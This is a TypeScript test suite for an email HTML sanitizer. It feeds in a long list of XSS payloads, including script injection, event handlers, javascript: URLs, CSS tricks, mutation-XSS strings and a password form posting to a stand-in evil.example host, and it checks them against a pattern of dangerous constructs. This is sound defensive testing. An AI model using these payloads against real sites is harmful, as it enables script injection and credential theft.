import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cidsIn, cleanHtml, hasRemoteImages } from './clean-html.ts';

const clean = (html: string, images = false) =>
  cleanHtml(html, { images, inline: (cid) => (cid === 'logo@x' ? '/api/mail/files/1?s' : undefined) });

/** Elements and attributes that run or load something, or leave their place. */
const DANGEROUS =
  /<\s*\/?\s*(script|iframe|object|embed|form|input|button|textarea|select|svg|math|base|meta|link|style|frame|frameset|applet|audio|video|source|template|noscript|title|body|html|head)\b|\son\w+\s*=|javascript:|vbscript:|url\s*\(|expression\s*\(|position\s*:|srcdoc|\bformaction|<!--|<\?/i;

const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnErRoR = "alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<div style="background:url(https://evil.example/p.gif)">x</div>',
  '<div style="background-image:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
  '<div style="po\\73ition:fixed">x</div>',
  '<div style="color:red;/*x*/background:u/**/rl(x)">x</div>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{background:url(x)}</style>',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '<![if !mso]><img src=x onerror=alert(1)><![endif]>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example"></object><embed src="x">',
  '<video src="x" onloadstart=alert(1)></video><audio src=x autoplay>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<table background="https://evil.example/p.gif"><tr><td background="x">x</td></tr></table>',
  '<body onload=alert(1) background="x">text</body>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<p id="x" name="x" class="shell" data-quote="in" data-remote="x">x</p>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<img srcset="https://evil.example/x 1x" src="x">',
  '<a href="//evil.example" target="_self" rel="opener">x</a>',
  '<?xml version="1.0"?><?php echo 1 ?>x',
  '<p title=""><script>alert(1)</script>">x</p>',
  '<div><<script>alert(1)//<</script>x</div>',
];

describe('HTML from outside', () => {
  it.each(VECTORS)('nothing runs of %s', (html) => {
    for (const images of [false, true]) {
      const result = clean(html, images);
      // Escaped tags are plain text.
      expect(result.replace(/&lt;|&gt;/g, '')).not.toMatch(DANGEROUS);
      expect(result).not.toContain('evil.example/p.gif');
      expect(result).not.toMatch(/\b(id|name|class|srcset|background)=/);
    }
  });

  it('cleaned once is clean: done again it stays the same', () => {
    for (const html of VECTORS) expect(clean(clean(html))).toBe(clean(html));
  });

  it('whatever is put together of the worst pieces stays harmless', () => {
    const piece = fc.constantFrom(
      ...VECTORS,
      '<',
      '>',
      '"',
      "'",
      '</',
      '<!--',
      '-->',
      '&',
      ' onclick=',
      '<p ',
      '=',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
        const result = clean(pieces.join(''));
        const tags = result.match(/<[^>]*>/g) ?? [];
        expect(tags.join('').replace(/"[^"]*"/g, '""')).not.toMatch(DANGEROUS);
      }),
      { numRuns: 300 },
    );
  });

  it('keeps what a letter looks like', () => {
    const email =
      '<table width="600" bgcolor="#eeeeee"><tr><td colspan="2" style="padding:4px;color:#333;font-family:Arial, sans-serif">' +
      '<b>Hi</b> <a href="https://shop.example/order">order</a></td></tr></table>';
    const result = clean(email);
    expect(result).toContain('width="600"');
    expect(result).toContain('style="padding:4px;color:#333;font-family:Arial, sans-serif"');
    expect(result).toContain(
      'href="https://shop.example/order" target="_blank" rel="noopener noreferrer nofollow"',
    );
  });

  it('remote images are left out until somebody asks for them', () => {
    const html = '<p>x<img src="https://shop.example/p.gif" alt="P"><img src="//shop.example/q.gif"></p>';
    expect(hasRemoteImages(html)).toBe(true);
    expect(clean(html)).not.toContain('shop.example');
    expect(clean(html)).toContain('data-remote');
    expect(clean(html, true)).toContain('src="https://shop.example/p.gif" referrerpolicy="no-referrer"');
    expect(clean(html, true)).toContain('src="https://shop.example/q.gif"');
  });

  it('pictures that came along are shown from our own copy, and no others', () => {
    const html = '<img src="cid:logo@x"><img src="CID:logo%40x"><img src="cid:other">';
    expect([...cidsIn(html)]).toEqual(['logo@x', 'other']);
    expect(clean(html).match(/\/api\/mail\/files\/1\?s/g)).toHaveLength(2);
    expect(clean(html)).not.toContain('cid:');
    expect(hasRemoteImages(html)).toBe(false);
  });

  it.each([
    ['<div class="gmail_quote">old</div>', 'in'],
    ['<blockquote type="cite">old</blockquote>', 'in'],
    ['<div class="moz-cite-prefix">old</div>', 'in'],
    ['<div id="divRplyFwdMsg">old</div>', 'from'],
  ])('what %s quotes is marked', (html, mark) => {
    expect(clean(html)).toContain(`data-quote="${mark}"`);
  });

  it('takes no time over a page that is made to take time', () => {
    const start = performance.now();
    clean('<img '.repeat(200_000));
    clean(`<p style="${'a:b;'.repeat(100_000)}">x</p>`);
    hasRemoteImages('<img '.repeat(200_000));
    clean('<div>'.repeat(50_000));
    expect(performance.now() - start).toBeLessThan(8000);
  });
});
